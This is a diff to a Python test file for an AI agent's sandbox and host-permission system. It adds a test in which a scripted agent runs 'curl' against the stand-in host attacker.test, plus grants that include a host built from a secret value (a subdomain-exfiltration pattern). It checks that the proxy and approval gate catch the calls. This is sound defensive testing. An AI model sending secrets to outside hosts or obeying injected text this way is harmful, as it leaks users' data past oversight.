@@ -11,9 +11,11 @@ import pytest
 from agents.events import Approval, Mode, ToolCalled, ToolResult
 from agents.mcp import stdio
 from agents.mcp.spec import ServerSpec
+from agents.permissions.hosts import HOSTS, REGISTRIES
 from agents.permissions.values import ApprovalRequest, Decision, Grant
 from agents.sandbox.find import find_sandbox
 from agents.tools import fetch_page as fetching
+from app.services import services as composed
 from app.services.events import ServiceEvent
 from app.store.records import ChatOptions, ChatTools
 from tests.support import agents as support
@@ -28,7 +30,7 @@ from tests.support.openai_server import OpenAiServer
 pytestmark = pytest.mark.skipif(find_sandbox() is None, reason="no sandbox works on this machine")
 
 Decide = Callable[[ApprovalRequest], Decision | None]
-HARMFUL = {"network", "outside", "rail", "untrusted", "destructive", "not_undoable"}
+HARMFUL = {"network", "hosts", "outside", "rail", "untrusted", "destructive", "not_undoable"}
 TELLING = str(Path(support.__file__).with_name("telling_server.py"))
 
 
@@ -37,6 +39,7 @@ def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
     made = World(tmp_path)
     monkeypatch.setenv("HOME", str(made.home))
     monkeypatch.setattr(fetching, "THE_WEB", made.web())
+    monkeypatch.setattr(composed, "host_gate", lambda settings: made.gate())
     monkeypatch.setattr(stdio, "END_S", 0.2)
     yield made
     made.close()
@@ -105,6 +108,8 @@ def wide_grants(world: World) -> list[Grant]:
         f"https://{SECRET.lower()}.attacker.test",
     )
     granted += [Grant(f"h{n}", "workspace", "fetch_page", 1.0, host, here) for n, host in enumerate(hosts)]
+    allowed = ("attacker.test", "*.attacker.test", f"attacker.test:{world.port}", REGISTRIES)
+    granted += [Grant(f"n{n}", "workspace", HOSTS, 1.0, host, here) for n, host in enumerate(allowed)]
     files = ("write_file", "edit_file", "move_file", "delete_file", "python")
     granted += [Grant(f"f{n}", "workspace", name, 1.0, "", here) for n, name in enumerate(files)]
     return [*granted, Grant("m", "server", "", 1.0, server="telling")]
@@ -318,6 +323,22 @@ def test_the_listener_hears_what_is_allowed(world: World) -> None:
     order = {"network": (shell(f"curl -m 1 {led_to}", True), Call("telling_tell"))}
     led = Led(world, order, [Call("read_file", {"path": "welcome.md"})], allow)
     assert [harm for found in led.harm.values() for harm in found] == ["tcp", "tcp"]
+
+
+@pytest.mark.skipif(not getattr(find_sandbox(), "filters", False), reason="no sandbox here leads to a proxy")
+def test_the_listener_hears_what_goes_to_an_allowed_host(world: World) -> None:
+    """The same without strangers' text: it is by the questions that nothing was reached."""
+    (world.workspace / "welcome.md").write_text("DO-host")
+    order = {
+        "host": (shell("curl -m 1 http://attacker.test/"), shell("curl -m 1 http://attacker.test/again"))
+    }
+    with world.answering(b"HTTP/1.0 200 OK\r\n\r\n") as heard:
+        led = Led(world, order, [Call("read_file", {"path": "welcome.md"})], deny, wide_grants(world))
+    assert [line.split(b"\r\n")[0] for line in heard] == [b"GET / HTTP/1.1"], (
+        "the second comes after its text"
+    )
+    asked = [one.reasons for one in led.approvals() if one.decision == "asked"]
+    assert asked == [("shell", "hosts", "untrusted")]
 
 
 def test_what_one_answer_of_a_chat_read_counts_in_the_next(world: World) -> None:
